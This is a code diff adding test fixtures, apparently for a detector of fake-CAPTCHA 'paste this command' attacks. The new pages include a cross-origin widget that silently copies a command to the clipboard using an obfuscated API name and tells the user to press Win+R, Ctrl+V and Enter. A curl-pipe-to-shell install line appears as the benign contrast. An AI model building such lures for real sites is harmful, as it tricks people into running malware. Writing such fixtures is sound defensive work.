@@ -49,6 +49,23 @@ function captchaPage(variant) {
   </script></body></html>`;
 }
 
+// The same from a cross-origin widget frame (its own content script asks
+// the top frame for the verdict): the top page only frames the "check".
+const XFRAME_TOP = (widget) => `<!doctype html><html lang="en"><head><title>Just a moment...</title></head><body>
+  <h1>Checking your connection</h1><p>One more step before you continue to the site.</p>
+  <iframe id="box" src="${widget}" allow="clipboard-write" style="width:400px;height:200px;border:0"></iframe>
+  <script>${REPORT_JS}</script></body></html>`;
+const XFRAME_WIDGET = `<!doctype html><html lang="en"><body>
+  <label><input type="checkbox" id="robot"> I am not a robot</label><div id="steps"></div>
+  <script>${REPORT_JS}
+    const cmd = ${CMD_JS};
+    document.getElementById('robot').addEventListener('click', () => {
+      document.getElementById('steps').textContent = 'Press Win+R, then Ctrl+V, then Enter';
+      navigator['clip' + 'board']['write' + 'Text'](cmd).then(() => report('resolved'), () => report('refused'));
+      report('tried');
+    });
+  </script></body></html>`;
+
 // A developer tool's install page on its own domain, with its own Copy
 // button: the legitimate case.
 const DEV_CMD = 'curl -fsSL https://get.quillcli.dev/install.sh | sh';
@@ -199,4 +216,4 @@ const FILES_PAGE = `<!doctype html><html lang="en"><head><title>Annual report 20
 const HELPER_PAGE = `<!doctype html><html lang="en"><head><title>Notes</title></head><body><h1>Notes</h1><textarea id="t"></textarea>
   <script>${REPORT_JS}</script></body></html>`;
 
-module.exports = { CMD, DEV_CMD, COPY, GRAB, captchaPage, lockerPage, DEV_PAGE, ALLOW_PAGE, NEWS_PAGE, GAME_PAGE, UPDATE_PAGE, FILES_PAGE, HELPER_PAGE };
+module.exports = { CMD, DEV_CMD, COPY, GRAB, captchaPage, XFRAME_TOP, XFRAME_WIDGET, lockerPage, DEV_PAGE, ALLOW_PAGE, NEWS_PAGE, GAME_PAGE, UPDATE_PAGE, FILES_PAGE, HELPER_PAGE };
